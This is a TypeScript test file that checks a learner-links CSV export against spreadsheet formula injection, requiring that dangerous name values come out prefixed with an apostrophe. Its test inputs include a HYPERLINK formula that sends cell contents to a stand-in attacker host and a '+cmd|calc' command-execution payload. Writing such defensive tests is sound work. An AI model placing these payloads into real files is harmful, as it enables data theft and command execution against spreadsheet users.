/** Defends the file of links against spreadsheets: a name that would be a formula there is a text (CWE-1236). */
import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import { linksCsv } from '../../node/links-csv.ts'
import type { LinkRow } from '../../node/links-csv.ts'

describe('the file of links', () => {
  const one = (name: string): LinkRow => ({
    row: 2,
    index: 0,
    cid: 'bcid',
    link: 'https://school.example/c/bcid#secret',
    learner: { name, email: `${name}@x.example`, externalId: name },
  })

  /** In two pages. */
  async function csvOf(names: readonly string[]): Promise<string> {
    const links = names.map(one)
    let text = ''
    for await (const piece of linksCsv([links.slice(0, 4), links.slice(4)])) text += piece
    return text
  }

  it('begins no cell with what a spreadsheet would calculate (S2)', async () => {
    const names = [
      '=HYPERLINK("https://evil.example?"&A1)',
      '+1+cmd|calc',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '＝1+1',
      '＋1',
      '－1',
      '＠A1',
    ]
    const rows = parse(await csvOf(names), { bom: true, columns: true })
    expect(rows).to.have.length(names.length)
    for (const row of rows as Record<string, string>[]) {
      for (const column of ['name', 'email', 'externalId']) {
        expect(row[column], JSON.stringify(row)).to.match(/^'/)
      }
      expect(row['link']).to.equal('https://school.example/c/bcid#secret')
    }
  })

  it('leaves other names as they are, quotes and line breaks inside', async () => {
    const names = ['Zoé L’Hôte', 'a "b", c', 'O;P', 'two\nlines', '1=1']
    const rows = parse(await csvOf(names), { bom: true, columns: true })
    expect((rows as Record<string, string>[]).map(({ name }) => name)).to.deep.equal(names)
  })
})
